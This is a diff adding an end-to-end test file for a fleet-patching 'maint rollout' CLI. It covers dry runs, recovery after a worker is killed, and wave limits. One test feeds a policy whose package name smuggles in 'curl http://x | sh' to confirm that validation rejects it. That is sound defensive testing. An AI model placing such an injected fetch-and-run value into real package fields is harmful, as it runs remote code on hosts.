@@ -1,0 +1,132 @@
+import { spawn, type ChildProcess } from 'node:child_process';
+import { mkdtempSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { runMaint } from '../helpers/cli';
+import { track } from '../helpers/processes';
+import { maxConcurrentOutOfService, startRolloutFixture, type RolloutFixture } from '../helpers/rolloutFixture';
+import { uniqueTaskQueue } from '../helpers/temporal';
+
+const ROOT = join(__dirname, '..', '..');
+
+/** A worker as operations run it: its own process (`node dist/worker.js`). */
+function startWorkerProcess(env: NodeJS.ProcessEnv): ChildProcess & { output: () => string } {
+  const child = track(spawn(process.execPath, [join(ROOT, 'dist', 'worker.js')], { env: { ...process.env, ...env }, stdio: ['ignore', 'pipe', 'pipe'] }));
+  let output = '';
+  child.stdout?.on('data', (d: Buffer) => (output += d.toString()));
+  child.stderr?.on('data', (d: Buffer) => (output += d.toString()));
+  return Object.assign(child, { output: () => output });
+}
+
+async function until<T>(what: string, probe: () => Promise<T | undefined> | T | undefined, timeoutMs = 90_000): Promise<T> {
+  const deadline = Date.now() + timeoutMs;
+  for (;;) {
+    const value = await probe();
+    if (value !== undefined) return value;
+    if (Date.now() > deadline) throw new Error(`timed out waiting for ${what}`);
+    await new Promise((r) => setTimeout(r, 200));
+  }
+}
+
+describe('maint rollout with a worker process and 6 real sshd hosts', () => {
+  let fx: RolloutFixture;
+  let dir: string;
+  let env: NodeJS.ProcessEnv;
+  const workers: ChildProcess[] = [];
+
+  beforeAll(async () => {
+    fx = await startRolloutFixture(6);
+    dir = mkdtempSync(join(tmpdir(), 'maint-rollout-e2e-'));
+    writeFileSync(join(dir, 'inventory.yaml'), fx.fleet.inventoryYaml());
+    env = { TEMPORAL_ADDRESS: process.env.MAINT_TEST_TEMPORAL_ADDRESS, MAINT_TASK_QUEUE: uniqueTaskQueue('e2e-rollout'), MAINT_SSH_IDENTITY_FILE: fx.fleet.clientKey };
+  });
+  afterEach(async () => {
+    for (const w of workers.splice(0)) {
+      if (w.exitCode === null && w.signalCode === null) {
+        w.kill('SIGTERM');
+        await new Promise((r) => w.once('exit', r));
+      }
+    }
+  });
+  afterAll(async () => {
+    await fx?.stop();
+  });
+
+  function writePolicy(name: string, overrides = ''): string {
+    const file = join(dir, name);
+    writeFileSync(file, fx.policyYaml(overrides));
+    return file;
+  }
+
+  it('rejects a policy with a hostile package name before connecting to anything', async () => {
+    const file = join(dir, 'bad.yaml');
+    writeFileSync(file, 'apiVersion: maint/v1\nkind: RolloutPolicy\nname: bad\ntargets: {inventory: inventory.yaml}\nstrategy:\n  kind: apt\n  packages: [openssl, "nginx; curl http://x | sh"]\nmaxUnavailable: "120%"\n');
+    // An unreachable Temporal address: exit 2 (not 3) proves nothing was contacted.
+    const result = await runMaint(['rollout', 'start', '-f', file], { TEMPORAL_ADDRESS: '127.0.0.1:1' });
+    expect(result.code).toBe(2);
+    expect(result.stderr).toContain(`${file}:7:23: strategy.packages[1]: expected a package name`);
+    expect(result.stderr).toMatch(new RegExp(`${file}:8:17: maxUnavailable: .*percentage`));
+  });
+
+  it('dry run prints the waves and what each host would install, changing nothing', async () => {
+    workers.push(startWorkerProcess(env));
+    const file = writePolicy('dry.yaml', 'waves: {canary: 1, batches: ["50%"]}\nmaxUnavailable: 2\n');
+    const result = await runMaint(['rollout', 'start', '-f', file, '--dry-run'], env);
+    expect(result.code).toBe(0);
+    expect(result.stdout).toContain('6 host(s) in 3 wave(s); nothing was changed');
+    expect(result.stdout).toMatch(/wave 0 \(canary\): 1 host\(s\), at most 1 at once\n {2}host-1 +version 1\.0\.0 → 2\.0\.0/);
+    expect(result.stdout).toMatch(/wave 2: 2 host\(s\), at most 2 at once\n {2}host-5 +version 1\.0\.0 → 2\.0\.0\n {2}host-6 /);
+    expect(fx.hosts.map((_h, i) => fx.version(i))).toEqual(Array(6).fill('1.0.0'));
+    expect(fx.hosts.map((_h, i) => fx.applyCount(i))).toEqual(Array(6).fill(0));
+  });
+
+  it('survives SIGKILL of the worker mid-batch: every host patched exactly once, maxUnavailable held', async () => {
+    const first = startWorkerProcess(env);
+    workers.push(first);
+    // A slow apply keeps hosts in flight long enough to kill the worker while one runs.
+    const file = writePolicy('kill.yaml', [
+      'waves: {canary: 1, batches: [2, "100%"]}',
+      'maxUnavailable: 2',
+      'strategy:',
+      '  kind: command',
+      '  target: 2.0.0',
+      '  check: cat "$MAINT_HOST_DIR/version"',
+      '  apply: echo {{target}} >> "$MAINT_HOST_DIR/apply.log" && sleep 3 && echo {{target}} > "$MAINT_HOST_DIR/version"',
+      '  rollback: echo {{previous}} > "$MAINT_HOST_DIR/version"',
+    ].join('\n'));
+    const started = await runMaint(['rollout', 'start', '-f', file, '--json', '--id', 'kill-test'], env);
+    expect(started.code).toBe(0);
+    expect(JSON.parse(started.stdout)).toEqual({ rolloutId: 'kill-test', workflowId: 'rollout-kill-test' });
+
+    // Kill it while host-2 (second wave) is in the middle of its apply.
+    await until('host-2 to start applying', () => (fx.applyCount(1) === 1 && fx.version(1) === '1.0.0' ? true : undefined)).catch(async (err: Error) => {
+      const status = await runMaint(['rollout', 'status', 'kill-test'], env);
+      throw new Error(`${err.message}\nstatus:\n${status.stdout}${status.stderr}\nworker:\n${first.output()}`);
+    });
+    first.kill('SIGKILL');
+    await new Promise((r) => first.once('exit', r));
+    workers.push(startWorkerProcess(env));
+
+    const report = await until('the rollout to finish', async () => {
+      const status = await runMaint(['rollout', 'status', 'kill-test', '--json'], env);
+      const parsed = JSON.parse(status.stdout) as { status: string; hosts: Array<{ name: string; state: string; before: { version: string } | null; after: { version: string } | null; attempts: number }> };
+      return parsed.status === 'running' ? undefined : { parsed, code: status.code };
+    }, 180_000);
+    expect(report.code).toBe(0);
+    expect(report.parsed.status).toBe('completed');
+    expect(report.parsed.hosts.map((h) => [h.name, h.state, h.before?.version, h.after?.version])).toEqual(fx.hosts.map((h) => [h.name, 'healthy', '1.0.0', '2.0.0']));
+    expect(fx.hosts.map((_h, i) => fx.version(i))).toEqual(Array(6).fill('2.0.0'));
+    expect(fx.hosts.map((_h, i) => fx.applyCount(i))).toEqual(Array(6).fill(1));
+    expect(maxConcurrentOutOfService(fx.hosts.flatMap((_h, i) => fx.outOfService(i)))).toBeLessThanOrEqual(2);
+
+    const table = await runMaint(['rollout', 'status', 'kill-test'], env);
+    expect(table.stdout).toContain('rollout kill-test (test-rollout): completed');
+    expect(table.stdout).toMatch(/wave 2 +\[#{20}\] 3\/3 done/);
+    expect(table.stdout).toMatch(/host-4 +2 +healthy +1\.0\.0 +2\.0\.0 +1/);
+    const list = await runMaint(['rollout', 'list', '--json'], env);
+    expect(JSON.parse(list.stdout)).toEqual(expect.arrayContaining([expect.objectContaining({ rolloutId: 'kill-test', status: 'completed' })]));
+    const refused = await runMaint(['rollout', 'approve', 'kill-test'], env);
+    expect(refused.code).toBe(1);
+    expect(refused.stderr).toContain('approve refused');
+  }, 240_000);
+});
